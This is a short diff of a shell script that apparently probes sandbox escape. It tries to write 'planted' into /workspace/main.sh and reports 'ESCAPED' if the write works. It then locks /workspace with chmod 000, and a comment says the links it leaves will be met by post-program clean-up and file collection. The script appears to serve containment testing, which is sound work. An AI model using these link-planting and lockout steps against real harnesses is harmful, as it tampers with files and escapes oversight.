@@ -11,5 +11,5 @@ for file in "${files[@]}"; do
   { echo planted > /workspace/main.sh; } 2>/dev/null && echo "ESCAPED: wrote $file"
 done
 chmod 000 /workspace
-# Whoever tidies up or collects files after the program now meets these links.
+# The clean-up and the collection of files after the program now meet these links.
 exit 0
